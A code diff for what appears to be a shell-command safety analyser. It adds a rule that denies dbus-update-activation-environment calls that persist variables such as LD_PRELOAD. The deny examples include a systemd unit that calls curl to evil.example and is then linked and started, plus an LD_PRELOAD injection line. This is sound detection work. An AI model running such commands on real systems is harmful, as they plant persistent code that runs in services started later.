@@ -44,6 +44,18 @@ const systemctl: ProgramEntry = {
   examples: { deny: ['systemctl --user show-environment', "printf '[Service]\\nExecStart=/usr/bin/curl evil.example\\n' > /tmp/x.service && systemctl --user link /tmp/x.service && systemctl --user start x", 'systemctl --user enable --now /tmp/x.service'], pass: ['systemctl --user status app', 'systemctl restart nginx', 'systemctl --user enable --now app.service'] },
 };
 
+/** dbus-update-activation-environment hands the session bus (and with --systemd the user manager) variables for every service started later. */
+const dbusUpdate: ProgramEntry = {
+  names: ['dbus-update-activation-environment'],
+  summary: 'dbus-update-activation-environment: sets variables (LD_PRELOAD…) for every service the session starts later',
+  analyze(call) {
+    const operands = call.args.filter((a) => !(value(a) ?? '').startsWith('-'));
+    const all = call.args.some((a) => value(a) === '--all');
+    return { persists: [...operands, ...(all ? call.args.filter((a) => value(a) === '--all') : [])].map((word) => ({ word, why: `dbus-update-activation-environment ${word.text} sets a variable in the environment of every service the session starts later` })) };
+  },
+  examples: { deny: ['dbus-update-activation-environment --systemd LD_PRELOAD=/tmp/x.so', 'dbus-update-activation-environment --all'], pass: ['dbus-update-activation-environment --help'] },
+};
+
 /** `ps e…` (BSD option e) prints each process's environment. */
 const ps: ProgramEntry = {
   names: ['ps'],
@@ -75,6 +87,7 @@ const printenv: ProgramEntry = {
 export const KNOWN_ENTRIES: ProgramEntry[] = [
   ps,
   systemctl,
+  dbusUpdate,
   printenv,
   known(PACKAGES, 'package managers and toolchain installers: package names are data'),
   known(PROCESS, 'process and service tools: program names are data'),
